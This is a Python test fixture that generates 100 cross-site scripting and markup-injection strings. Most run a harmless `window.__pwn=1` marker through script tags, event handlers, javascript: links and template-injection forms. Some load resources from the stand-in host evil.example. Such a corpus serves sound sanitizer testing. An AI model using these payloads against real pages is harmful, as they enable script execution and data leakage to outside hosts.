"""A hundred strings that would do something in a careless page; each sets `window.__pwn`, or fetches, if it is run."""

from __future__ import annotations

from itertools import product

RUN = "window.__pwn=1"
_FRAMES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg onload='{}'>",
    "<svg><animate onbegin={} attributeName=x>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<body onload={}>",
    "<a href=javascript:{}>press</a>",
    "[1](javascript:{})",
    "![x](x onerror={})",
    "${{{}}}",
    "`${{{}}}`",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{{{#with this}}}}${{{}}}{{{{/with}}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "```mermaid\ngraph TD; A[<img src=x onerror={}>]\n```",
    "</blockquote></mark></textarea></title><script>{}</script>",
    "<math><mtext></mtext><script>{}</script></math>",
    "<style>@import 'javascript:{}'</style>",
    "<object data=javascript:{}>",
    "data-act=x onclick={} autofocus",
)
_FETCHES = (
    "<img src=https://evil.example/{}>",
    "![x](https://evil.example/{})",
    "<form action=https://evil.example/{}><input name=q></form>",
    "<link rel=stylesheet href=https://evil.example/{}>",
    "<style>body{{background:url(https://evil.example/{})}}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{}'>",
    "<base href=https://evil.example/{}>",
    "<video poster=https://evil.example/{}>",
    "<a ping=https://evil.example/{} href=#>",
    "[1]: https://evil.example/{}",
)
HUNDRED = (
    [frame.format(code) for frame, code in product(_FRAMES, (RUN, "top.__pwn=1", "self['__pwn']=1"))]
    + [frame.format(name) for frame, name in product(_FETCHES, ("a", "b"))]
    + [
        "\u202e<script>window.__pwn=1</script>",
        "\u2066${window.__pwn=1}\u2069",
        "<scr\u200bipt>",
        "%3Cscript%3E",
        "<!--",
    ]
)
